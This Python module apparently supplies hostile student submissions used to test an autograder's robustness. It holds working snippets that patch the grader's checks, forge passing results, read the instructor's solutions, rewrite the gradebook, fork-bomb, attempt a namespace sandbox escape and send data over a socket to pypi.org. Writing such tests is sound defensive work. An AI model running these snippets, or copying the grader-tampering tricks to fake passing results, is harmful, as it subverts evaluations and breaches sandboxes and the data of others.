"""Hostile and malformed submissions for the sample class (see autograder/sample_class.py).

Each entry is code a student might hand in to cheat, to break the grader, or by accident.
`cell` code runs as an extra cell right after the setup cell; `answer` code is the body of
the student's function for the first question, or the question the entry names (called with
the case's arguments). Every entry must leave honest answers in the same notebook scoring,
and earn no undeserved point. Each attack is written by a student who has read `autograder/`:
forged results through every descriptor, the grader's code imported, read and patched, the
stack walked to the reference, a call log shortened after the fact.
"""

MONKEYPATCH = '''
# Make every comparison pass and every check a no-op (works inside stock nbgrader's kernel).
import contextlib, math
import numpy as np
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
import autograder.checks, autograder.student.compare
autograder.student.compare.close = lambda *a, **k: None
class _Pass:
    def __init__(self, *a, **k): pass
    def __enter__(self): return self
    def __exit__(self, *a): return True
    def public(self): print("✓ all public cases")
    def random(self, n=None): print("✓ 8 random cases")
    def hidden(self, n=None): print("✓ 8 hidden cases")
autograder.checks.checking = _Pass
checking = _Pass
'''

IPYTHON_HOOKS = '''
# Rewrite every later test cell into `pass`, and forge a passing output.
ip = get_ipython()
ip.input_transformers_cleanup.append(
    lambda lines: ["print('✓ all cases')\\n"] if any("checking(" in l for l in lines) else lines)
'''

SNOOP_CELL = '''
# Look for the instructor's files, the gradebook and other students' work.
import glob, os
found = [p for pattern in ("../../../source/*/*.ipynb", "../../../gradebook.db",
                           "../../../submitted/*/*/*.ipynb", "/work/*/source/*/*.ipynb")
         for p in glob.glob(pattern)]
print(len(found), "course files visible")
'''

SNOOP_ANSWER = '''
    # Find the instructor's solution of this question and run it.
    import glob, json
    name = {q!r}
    for path in glob.glob("../../../source/*/*.ipynb") + glob.glob("/work/*/source/*/*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            text = "".join(cell["source"])
            if "BEGIN SOLUTION" in text and f"def {{name}}(" in text:
                ns = {{}}
                exec("import numpy as np\\nimport tensorflow as tf\\n" + text, ns)
                return ns[name](*args, **kwargs)
    raise RuntimeError("no solution found")
'''

GRADEBOOK_WRITE = '''
# Give everyone extra credit straight in the gradebook.
import glob, sqlite3
for db in glob.glob("../../../gradebook.db") + glob.glob("/work/*/gradebook.db"):
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET extra_credit = 100")
        con.commit()
    except Exception as e:
        print("could not write the gradebook:", type(e).__name__)
'''

DAEMON = '''
# A daemon that should not outlive grading.
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
    os._exit(0)
'''

NETWORK = '''
# Send the notebook somewhere.
import socket
for host, port in (("127.0.0.1", 8765), ("pypi.org", 443)):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"exfiltrated")
        print("sent to", host)
    except OSError as e:
        print("no network:", type(e).__name__)
'''

EXIT = '''
# End the process in the middle of the notebook.
import os
os._exit(3)
'''

LIAR_ANSWER = '''
    # A number that says it equals anything.
    class Liar(float):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        __hash__ = float.__hash__
        def __float__(self): return 6.0
    return Liar(0.0)
'''

MEMORY_ANSWER = '''
    # Ask for far more memory than the machine has.
    hog = bytearray(64 << 30)
    return hog
'''

SEGFAULT_ANSWER = '''
    # Crash the process.
    import ctypes
    return ctypes.string_at(0)
'''

FORK_BOMB_ANSWER = '''
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''

SIGINT_LOOP_ANSWER = '''
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
'''

# Not in the sample class (it would only add its wall-clock limit to the demo): graded by
# tests/test_trust.py. The CPU limit counts the student's process and every process below it,
# read from /proc; a child the kernel reaps by itself (SIGCHLD ignored) never adds its time to
# its parent's, and one that lives between two readings is never seen. The clock still is.
HIDDEN_CPU_ANSWER = '''
    import os, signal, time
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while True:
        if os.fork() == 0:
            start = time.process_time()
            while time.process_time() - start < 0.05:
                pass
            os._exit(0)
        time.sleep(0.05)
'''

FORGE_FDS = '''
# Write forged results to every descriptor this process can reach: engine-style result lines
# (full marks for me, zeros for another student) and length-prefixed grader frames.
import json, os, struct
me = os.environ.get("AUTOGRADER_STUDENT", "hostile-forge-fds")
lines = []
for who, ok in ((me, True), ("sample-correct", False)):
    for unit in ("01_tensors", "02_gradient_tape", "03_partial_derivatives", "04_missing_gradients",
                 "05_jacobians", "06_hessians", "07_updating_parameters", "08_linear_regression",
                 "09_under_the_hood"):
        lines.append(json.dumps({"id": f"{who}/{unit}", "ok": ok, "outputs": {}, "seconds": 0.0}) + "\\n")
blob = "".join(lines).encode()
frames = b"".join(struct.pack("!I", len(m)) + m for m in (
    json.dumps({"op": kind, "re": n, "got": 1.0, "noise": "", "stdout": "", "stderr": "", "error": None}).encode()
    for n in range(1, 40) for kind in ("result", "done")))
written = []
for fd in range(256):
    for data in (blob, frames):
        try:
            os.write(fd, data)
            written.append(fd)
        except OSError:
            pass
print("wrote to", sorted(set(written)))
'''

FORGE_FDS_ANSWER = '''
    # Answer wrong, and claim through every descriptor that the answer was right.
    import json, os, struct
    for fd in range(3, 256):
        for n in range(1, 60):
            m = json.dumps({{"op": "result", "re": n, "got": {{"value": 1.0}}, "noise": ""}}).encode()
            try:
                os.write(fd, struct.pack("!I", len(m)) + m)
                os.write(fd, b'{{"ok": true, "id": "x", "outputs": {{}}}}\\n')
            except OSError:
                pass
    return 0.0
'''

REACH_GRADER = '''
# Reach the grader's code: import the checks and the references, read them from disk, patch them.
import glob, importlib, sys
reached = []
for name in ("autograder.checks", "autograder.question", "autograder.questions", "autograder.engine",
             "autograder.sandbox", "autograder.kit"):
    try:
        mod = importlib.import_module(name)
        reached.append(name)
        if name == "autograder.checks":  # the two-line attack: every case judged against its own reference
            mod.run_case = lambda q, fn, case: (q.expected(*case.args), "")
            mod.judge_case = lambda q, fn, case: (None, "")
    except Exception as e:
        print("cannot import", name, type(e).__name__)
for path in glob.glob("/opt/grader/autograder/**/*.py", recursive=True) + glob.glob("/opt/**/questions/*.py", recursive=True):
    try:
        open(path).read()
        reached.append(path)
    except OSError as e:
        print("cannot read", path, type(e).__name__)
print("reached:", reached, "modules:", sorted(m for m in sys.modules if m.startswith("autograder")))
'''

FRAMES_ANSWER = '''
    # Walk up the call stack to the grader's question object and return its reference.
    import gc, sys
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if hasattr(value, "expected") and hasattr(value, "judge"):
                return value.expected(*args)
        frame = frame.f_back
    for obj in gc.get_objects():
        if hasattr(obj, "expected") and hasattr(obj, "judge") and hasattr(obj, "hidden"):
            return 0.0
    return 0.0
'''

ESCAPE_ANSWER = '''
    # The right answer, but only for a student who reaches the grader side: directly, from a
    # user and mount namespace of its own after unmounting what covers it, or through another
    # process's root in /proc (the zygote's, the runner's). Tried in a child, so that whatever
    # the attempt changes in its process cannot touch the later answers.
    import ctypes, os
    import tensorflow as tf
    r, w = os.pipe()
    if os.fork() == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        places = ["/opt/grader"] + [f"/proc/{{p}}/root/opt/grader" for p in os.listdir("/proc") if p.isdigit()]
        if libc.unshare(0x10000000 | 0x20000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
            libc.umount2(b"/opt/grader", 2)           # MNT_DETACH: whatever covers it
        reached = any(os.access(place + "/autograder/checks.py", os.R_OK) for place in places)
        os.write(w, b"yes" if reached else b"no")
        os._exit(0)
    os.close(w)
    reached = os.read(r, 3) == b"yes"
    os.wait()
    if reached:
        return tf.Variable(tf.cast(args[0], tf.float32), trainable=True)
    return None
'''

CALL_LOG_ANSWER = '''
    # Finite differences on the black box (one evaluation is allowed; this makes three), then
    # shorten every call log found in the caller's frames so that it shows one evaluation.
    import sys
    import tensorflow as tf
    f, x, h = args[0], float(args[1]), 1e-3
    at = [float(f(tf.constant(x + k * h, tf.float64))) for k in (-1, 0, 1)]
    if {q!r} == "second_derivative":
        answer = (at[2] - 2 * at[1] + at[0]) / h ** 2
    else:
        answer = (at[2] - at[0]) / (2 * h)
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, list) and len(value) >= 2:
                del value[1:]
            if isinstance(value, dict) and isinstance(value.get("calls"), (int, list)):
                value["calls"] = 1 if isinstance(value["calls"], int) else value["calls"][:1]
        frame = frame.f_back
    return answer
'''

# name: (what it does, extra cell or None, an answer's body or None, where): where is True (every
# unit, the body answers its first question), False (the first unit only) or {unit: question}.
HOSTILE = {
    "hostile-monkeypatch": ("patches NumPy, math and the checks; every answer wrong", MONKEYPATCH, None, True),
    "hostile-ipython-hooks": ("rewrites later test cells; every answer wrong", IPYTHON_HOOKS, None, True),
    "hostile-liar": ("first answer returns a float that equals anything", None, LIAR_ANSWER, True),
    "hostile-snoop": ("first answer runs the instructor's solution if it can read it", SNOOP_CELL, SNOOP_ANSWER, True),
    "hostile-gradebook": ("writes extra credit into the gradebook", GRADEBOOK_WRITE, None, True),
    "hostile-daemon": ("leaves a daemon running", DAEMON, None, True),
    "hostile-network": ("sends data over the network", NETWORK, None, True),
    "hostile-memory": ("first answer allocates 64 GiB", None, MEMORY_ANSWER, True),
    "hostile-segfault": ("first answer segfaults", None, SEGFAULT_ANSWER, True),
    "hostile-exit": ("calls os._exit in a cell after the first answer", EXIT, None, True),
    "hostile-fork-bomb": ("first answer is a fork bomb", None, FORK_BOMB_ANSWER, False),
    "hostile-sigint-loop": ("first answer loops forever, ignoring SIGINT", None, SIGINT_LOOP_ANSWER, False),
    "hostile-forge-fds": ("writes forged results to every descriptor; its first answer is wrong and "
                          "forges grader frames claiming otherwise", FORGE_FDS, FORGE_FDS_ANSWER, True),
    "hostile-reach-grader": ("imports, reads and patches the grader's code; its first answer walks the "
                             "stack to the question's reference", REACH_GRADER, FRAMES_ANSWER, True),
    "hostile-escape": ("its first answer is right only if it reaches the grader side: through a "
                       "namespace of its own that unmounts the cover, or another process's /proc root",
                       None, ESCAPE_ANSWER, {"01_tensors": "as_param"}),
    "hostile-call-log": ("finite differences on the black box, then shortens the call log in the "
                         "caller's frames", None, CALL_LOG_ANSWER,
                         {"03_partial_derivatives": "derivative", "06_hessians": "second_derivative"}),
}
# Students whose every answer is the first pitfall (their tricks must not rescue them).
ALL_WRONG = {"hostile-monkeypatch", "hostile-ipython-hooks"}
# Where the extra cell goes: after the setup cell, or after the first answer.
AFTER_FIRST_ANSWER = {"hostile-exit"}
